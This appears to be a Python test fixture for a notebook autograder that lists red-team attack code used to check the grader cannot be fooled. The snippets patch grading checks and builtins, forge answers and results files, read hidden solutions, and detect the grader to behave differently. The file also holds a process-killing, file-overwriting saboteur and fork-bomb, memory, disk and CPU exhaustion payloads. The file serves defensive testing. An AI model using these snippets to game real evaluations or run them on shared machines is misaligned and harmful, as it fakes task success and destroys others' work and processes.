"""Attacks on the grader, each the code a devious learner adds to a blank student notebook.

Every attack must score no more than the blank notebook of its lab (tests/labs/test_red_team.py).
`SABOTEUR` leaves a detached process behind; it is graded beside honest submissions.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    name: str
    code: str
    lab: str = "2_dropout"

    def __str__(self):
        return self.name


# A Dropout that passes nothing on its own merits: what every attack below tries to get full marks for.
ATTACKS = [
    Attack("patch labkit's checks and runner in the kernel", """
import labkit.checks, labkit.in_kernel.probe
labkit.checks.Bank.run = lambda self, check, *a, **k: labkit.checks.Outcome(check, True, "")
labkit.checks.run_guarded = lambda *a, **k: (None, None, None)
labkit.checks.expect = lambda *a, **k: None
"""),
    Attack("patch numpy and builtins in the kernel", """
import builtins, numpy
numpy.allclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
builtins.isinstance = lambda *a: True
builtins.AssertionError = type("Never", (Exception,), {})
"""),
    Attack("replace the probe with one that claims success", """
import json, labkit.in_kernel.probe, labkit.wire
from IPython.display import display
def serve(nonce, request, withheld=()):
    answer = {"value": {"ref": 1, "type": "Dropout", "module": True, "class": True}}
    display({labkit.wire.MIME: json.dumps({"nonce": nonce, "answer": answer})}, raw=True)
labkit.in_kernel.probe.serve = serve
"""),
    Attack("answer every request twice", """
import labkit.in_kernel.probe
_serve = labkit.in_kernel.probe.serve
def serve(*args, **kwargs):
    _serve(*args, **kwargs)
    _serve(*args, **kwargs)
labkit.in_kernel.probe.serve = serve
"""),
    Attack("forge answers ahead of time and results files", """
import json, os, glob
from IPython.display import display
for nonce in ("0" * 32, "f" * 32):
    display({"application/vnd.labkit.answer": json.dumps({"nonce": nonce, "answer": {"value": True}})}, raw=True)
for folder in ["/tmp", os.getcwd(), os.path.expanduser("~")] + glob.glob("/tmp/*"):
    try:
        with open(os.path.join(folder, "results.jsonl"), "a") as f:
            f.write(json.dumps({"name": "is_identity_in_eval_mode", "score": 1000, "passed": True, "message": ""}) + "\\n")
    except OSError:
        pass
"""),
    Attack("forge, then end the kernel with os._exit", """
import json, os
from IPython.display import display
display({"application/vnd.labkit.answer": json.dumps({"nonce": "x", "answer": {"value": None}})}, raw=True)
os._exit(0)
"""),
    Attack("read the answer key and the hidden tests", """
import glob, os, re, sys
sources = []
for pattern in ["/work/*/labs/*/lab.md", "/work/*/*/labs/*/lab.md", "/*/labs/*/lab.md", "**/lab.md",
                "/root/*/labs/*/lab.md", "/tmp/*/labs/*/lab.md"] + [p + "/../labs/*/lab.md" for p in sys.path]:
    for path in glob.glob(pattern, recursive=True):
        try:
            sources.append(open(path).read())
        except OSError:
            pass
try:
    from labkit.labs import load_labs
    sources += [lab.path.read_text() for lab in load_labs()]
except Exception:
    pass
for text in sources:
    if "checks: dropout" in text:
        code = text.split("class Dropout(nn.Module):", 1)[1].split("```", 1)[0]
        exec("class Dropout(nn.Module):" + code.replace("### BEGIN SOLUTION", "#").replace("### END SOLUTION", "#"))
        break
"""),
    Attack("detect the grader and behave differently", """
import os, sys, numtorch
graded = os.getuid() == 65534 or not hasattr(numtorch.nn, "Dropout") or "labkit-run" in os.getcwd()
if graded:
    import labkit.in_kernel.probe, labkit.wire, json
    from IPython.display import display
    labkit.in_kernel.probe.serve = lambda nonce, request, withheld=(): display(
        {labkit.wire.MIME: json.dumps({"nonce": nonce, "answer": {"value": 1.0}})}, raw=True)
"""),
    Attack("keep references to numtorch's Dropout and call them", """
_forward = getattr(nn, "Dropout").forward
_init = getattr(nn, "Dropout").__init__
class Dropout(nn.Module):
    def __init__(self, p=0.5, inplace=False):
        _init(self, p, inplace)
    forward = _forward
    def extra_repr(self):
        return f"p={self.p}, inplace={self.inplace}"
"""),
    Attack("wrap numtorch's Dropout, compiled under a labkit file name", """
import labkit.checks
exec(compile("class Dropout(nn.Dropout):\\n    pass\\n", labkit.checks.__file__, "exec"))
"""),
    Attack("rebuild numtorch's Dropout from the installed source", """
import glob, sys
candidates = [p + "/numtorch/nn/modules/dropout.py" for p in sys.path] + glob.glob("/work/*/src/numtorch/nn/modules/dropout.py")
for path in candidates + glob.glob("/work/*/*/src/numtorch/nn/modules/dropout.py"):
    try:
        source = open(path).read()
    except OSError:
        continue
    if "class Dropout" in source:
        exec(source.replace("from .module import Module", "from numtorch.nn import Module"))
        break
"""),
    Attack("print answers from inside the learner's code", """
import json
from IPython.display import display
def _forge():
    for nonce in range(3):
        display({"application/vnd.labkit.answer": json.dumps({"nonce": str(nonce), "answer": {"value": None}})},
                raw=True)
class Dropout(nn.Module):
    def __init__(self, p=0.5, inplace=False):
        _forge()
        super().__init__()
        self.p, self.inplace = p, inplace
    def forward(self, input):
        _forge()
        return input
"""),
    Attack("answer with a value nested 100,000 levels deep", """
import labkit.in_kernel.probe, labkit.wire
from IPython.display import display
def serve(nonce, request, withheld=()):
    deep = '{"nonce": "%s", "answer": {"value": ' % nonce + '{"list": [' * 100_000 + ']}' * 100_000 + '}}'
    display({labkit.wire.MIME: deep}, raw=True)
labkit.in_kernel.probe.serve = serve
"""),
    Attack("answer with an array whose header declares 2**40 floats", """
import base64, json, labkit.in_kernel.probe, labkit.wire
from IPython.display import display
header = "{'descr': '<f8', 'fortran_order': False, 'shape': (1099511627776,), }".ljust(117) + "\\n"
npy = base64.b64encode(b"\\x93NUMPY\\x01\\x00" + len(header).to_bytes(2, "little") + header.encode()).decode()
def serve(nonce, request, withheld=()):
    answer = {"value": {"tensor": npy, "requires_grad": False, "parameter": False}}
    display({labkit.wire.MIME: json.dumps({"nonce": nonce, "answer": answer})}, raw=True)
labkit.in_kernel.probe.serve = serve
"""),
    Attack("replay the first answer it gave to every later request", """
import labkit.in_kernel.probe, labkit.wire
from IPython.display import display
_serve, _first = labkit.in_kernel.probe.serve, []
def serve(nonce, request, withheld=()):
    if not _first:
        _first.append(nonce)
        return _serve(nonce, request, withheld)
    display({labkit.wire.MIME: labkit.wire.answer_text(_first[0], {"value": True})}, raw=True)
labkit.in_kernel.probe.serve = serve
"""),
    Attack("a capstone model that is a lookup table of the test images", """
from labkit.data import digits
_X_train, _X_test, _y_train, _y_test = digits()
_table = {x.numpy().tobytes(): int(y) for x, y in zip(list(_X_test) + list(_X_train), list(_y_test) + list(_y_train))}
class LookupModel(nn.Module):
    def forward(self, x):
        out = torch.zeros(x.shape[0], 10)
        for i, image in enumerate(x):
            out[i, _table.get(image.numpy().tobytes(), 0)] = 1.0
        return out
model = LookupModel()
""", lab="4_capstone"),
]

# Leaves a detached process (setsid, double fork) that tries, for a minute, to rewrite every notebook and results
# file it can reach and to kill every other process.
SABOTEUR = """
import os, time, signal, glob
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        open(os.path.join(os.environ.get("TMPDIR", "/tmp"), "saboteur-alive"), "w").close()
        deadline = time.time() + 60
        while time.time() < deadline:
            for path in glob.glob("/tmp/**/*.ipynb", recursive=True) + glob.glob("/tmp/**/*.jsonl", recursive=True):
                try:
                    open(path, "w").write("{}")
                except OSError:
                    pass
            for pid in os.listdir("/proc"):
                if pid.isdigit() and int(pid) != os.getpid():
                    try:
                        os.kill(int(pid), signal.SIGKILL)
                    except OSError:
                        pass
            time.sleep(0.2)
    os._exit(0)
"""

# Attacks on the machine rather than on the verdict, each bounded (a count, a size, a time) so that a fence that
# fails them still leaves the machine usable. Graded beside honest submissions (tests/labs/test_fence.py): each
# costs its own row only.
RESOURCE_ATTACKS = [
    Attack("fork bomb", """
import os, time
for _ in range(2000):
    try:
        if os.fork() == 0:
            time.sleep(40)
            os._exit(0)
    except OSError:
        break
"""),
    Attack("memory hog across processes", """
import subprocess, sys, time
hog = "import time; block = bytearray(700 * 1024**2); time.sleep(40)"  # a fresh process: all its limit for this
children = [subprocess.Popen([sys.executable, "-c", hog]) for _ in range(8)]
time.sleep(20)
"""),
    Attack("disk filler", """
import os
for folder in [os.getcwd(), os.path.dirname(os.getcwd()), os.environ.get("TMPDIR", "/tmp"), "/dev/shm", "/tmp"]:
    for number in range(20):
        try:
            with open(os.path.join(folder, f"fill{number}"), "wb") as f:
                for _ in range(60):
                    f.write(b"x" * 1024**2)
        except OSError:
            break
"""),
    # Its cell spins a few seconds and ends, while its children spin on until the grader ends them with the kernel;
    # a cell that spun on to its time limit (20 s in these gradebooks) would only keep the shared cores busy longer.
    Attack("processes that keep every core busy", """
import os, time
def spin(seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        pass
for _ in range(3):
    if os.fork() == 0:
        spin(40)
        os._exit(0)
spin(5)
"""),
    Attack("SysV shared memory that outlives the kernel", """
import ctypes
libc = ctypes.CDLL(None)
for key in range(4242, 4246):
    libc.shmget(key, 64 * 1024**2, 0o1000 | 0o666)
"""),
]
